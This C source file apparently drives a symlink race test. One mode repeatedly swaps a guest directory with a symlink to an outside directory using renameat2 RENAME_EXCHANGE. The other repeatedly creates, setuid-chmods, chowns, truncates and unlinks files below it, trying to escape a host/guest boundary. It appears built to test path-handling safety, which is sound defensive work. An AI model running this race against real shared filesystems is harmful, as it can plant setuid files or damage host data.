/*
 * Guest side of the symlink race: makes, writes, chmods and removes names below DIR/a while a
 * process of the host exchanges DIR/a with a link to a directory outside. With "swap" it is that
 * process.
 */
#include "attack.h"
#include <linux/fs.h>

static void swap(const char *dir, const char *other, double end)
{
    char a[512], b[512];

    snprintf(a, sizeof(a), "%s/a", dir);
    snprintf(b, sizeof(b), "%s/b", dir);
    (void)mkdir(a, 0777);
    (void)symlink(other, b);
    while (now() < end)
        (void)syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE);
}

static void attack(const char *dir, double end)
{
    char p[512], d[512];
    unsigned long n = 0;

    while (now() < end) {
        int fd;

        n++;
        snprintf(p, sizeof(p), "%s/a/pwned%lu", dir, n % 8);
        snprintf(d, sizeof(d), "%s/a/dir%lu", dir, n % 8);
        fd = open(p, O_WRONLY | O_CREAT, 0644);
        (void)!write(fd, "pwned", 5);
        close(fd);
        (void)mkdir(d, 0777);
        snprintf(p, sizeof(p), "%s/a/canary", dir);
        (void)chmod(p, 04777);
        (void)chown(p, 1234, 1234);
        (void)truncate(p, 0);
        (void)unlink(p);
        snprintf(d, sizeof(d), "%s/c", dir);
        (void)rename(p, d);
        (void)link(p, d);
    }
    fprintf(stderr, "%lu rounds\n", n);
}

int main(int argc, char **argv)
{
    double end;

    if (argc < 4)
        return 2;
    end = now() + atof(argv[3]);
    if (argc > 4)
        swap(argv[1], argv[2], end);
    else
        attack(argv[1], end);
    return 0;
}
